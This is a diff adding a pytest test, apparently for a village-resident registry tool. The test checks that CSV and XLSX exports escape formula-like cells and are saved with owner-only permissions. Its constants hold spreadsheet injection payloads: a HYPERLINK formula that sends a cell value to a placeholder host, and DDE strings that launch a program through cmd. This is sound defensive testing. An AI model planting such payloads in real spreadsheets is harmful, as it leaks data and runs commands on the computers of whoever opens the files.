@@ -221,3 +221,61 @@ def test_list_search_masks_the_nik(ready_home: Path, factory: SampleFactory,
     listed = fieldreg(ready_home, "list", "--status", "draft")
     assert len(listed.stdout.strip().splitlines()) == 4
     assert fieldreg(ready_home, "list", "--status", "ready").stdout.strip() == ""
+
+
+# ---------------------------------------------------------------- spreadsheets written safely
+
+FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik di sini")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+MINUS = "-2+3+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_export_and_import_report_hold_no_formula_and_only_their_owner_reads_them(
+        ready_home: Path, factory: SampleFactory, tmp_path: Path, suffix: str) -> None:
+    """Text a volunteer typed (or a village list carried) that starts like a formula is
+    written with a leading apostrophe, and as a text cell in XLSX; the files are 0600."""
+    from fieldreg.services.village_import import COLUMNS
+
+    rows = [village_list_row(factory.data()) for _ in range(2)]
+    rows[0].update(alamat=FORMULA, tempat_lahir=DDE)
+    rows[1]["alamat"] = MINUS
+    header = [*COLUMNS, FORMULA]  # an unknown column: its header goes into the report
+    desa = tmp_path / "desa.csv"
+    with desa.open("w", encoding="utf-8", newline="") as f:  # raw, as a hostile list is
+        w = csv.writer(f)
+        w.writerow(header)
+        w.writerows([[r.get(c, "") for c in COLUMNS] + ["x"] for r in rows])
+    report, target = tmp_path / "laporan.csv", tmp_path / f"semua{suffix}"
+    target.write_text("an older export, world-readable")
+    target.chmod(0o644)
+    umask = os.umask(0o022)  # the usual umask: files would be world-readable
+    try:
+        out = fieldreg(ready_home, "import", str(desa), "--report", str(report))
+        assert out.returncode == 0, out.stderr
+        out = fieldreg(ready_home, "export", str(target))
+        assert out.returncode == 0, out.stderr
+    finally:
+        os.umask(umask)
+
+    for path in (report, target):
+        assert path.stat().st_mode & 0o777 == 0o600, (path.name, oct(path.stat().st_mode))
+    with report.open(encoding="utf-8-sig", newline="") as f:
+        kolom = [line["kolom"] for line in csv.DictReader(f)]
+    assert kolom == ["'" + FORMULA]
+
+    if suffix == ".csv":
+        with target.open(encoding="utf-8-sig", newline="") as f:
+            exported = list(csv.reader(f))
+    else:
+        wb = load_workbook(target)  # not read-only: formulas would show as data_type "f"
+        cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        exported = [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]
+    by_column = [dict(zip(exported[0], row, strict=True)) for row in exported[1:]]
+    assert sorted(r["alamat"] for r in by_column) == sorted(["'" + FORMULA, "'" + MINUS])
+    assert "'" + DDE in [r["tempat_lahir"] for r in by_column]
+    for row in exported:
+        for value in row:
+            if isinstance(value, str) and value[:1] in ("=", "@", "\t", "\r", "+", "-"):
+                assert value[1:].isdigit(), value  # only a signed number may stay as it is
